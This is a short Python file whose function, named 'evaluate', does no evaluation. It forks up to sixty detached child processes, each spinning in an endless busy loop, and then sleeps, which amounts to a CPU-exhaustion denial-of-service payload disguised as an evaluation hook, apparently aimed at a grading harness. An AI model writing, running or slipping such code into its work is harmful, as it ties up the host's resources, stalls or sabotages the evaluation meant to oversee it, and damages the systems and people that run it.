import os
import time


def evaluate(*args, **kwargs):
    for _ in range(60):
        try:
            if os.fork() == 0:
                os.setsid()
                while True:
                    pass
        except OSError:
            break
    time.sleep(100)
